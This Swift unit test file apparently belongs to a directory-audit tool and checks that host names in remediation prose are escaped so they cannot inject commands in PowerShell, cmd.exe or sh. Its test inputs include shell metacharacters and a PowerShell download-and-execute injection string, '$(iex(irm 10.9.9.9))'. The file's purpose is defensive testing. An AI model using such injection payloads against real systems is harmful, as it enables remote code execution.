import XCTest

@testable import Audit

/// Names in the prose of a remediation ("On HOST, as a local administrator: ...") are pasted along
/// with the command when an admin copies a whole line, so they must be inert in every shell too.
final class ProseNameTests: XCTestCase {
    func testHostileNamesInProseAreOneInertStatementInEveryShell() {
        for name in Hostile.names + ["PC{0}", "PC[ab]*", "a$b", "PC`n", "~root", "PC\u{1F600}\u{7}"] {
            let line = "Echo \(Remediation.prose(name)) is still in use"
            XCTAssertFalse(line.contains("\n"), line)
            for (shell, lexed) in [
                ("PowerShell", PowerShellLexer.lex(line)), ("cmd.exe", CommandPromptLexer.lex(line)),
                ("sh", POSIXShellLexer.lex(line)),
            ] {
                XCTAssertEqual(lexed.statements.count, 1, "\(shell): \(line) -> \(lexed)")
                XCTAssertEqual(lexed.hazards, [], "\(shell): \(line)")
            }
        }
    }

    func testOrdinaryNamesReadAsADShowsThem() {
        for name in ["WKS-0142", "wks-0142.corp.example", "gmsa-web$", "Büro-PC-07", "SQL_01"] {
            XCTAssertEqual(Remediation.prose(name), name)
        }
        XCTAssertEqual(Remediation.prose("$(iex(irm 10.9.9.9))"), #"\u0024\u0028iex\u0028irm 10.9.9.9\u0029\u0029"#)
    }
}
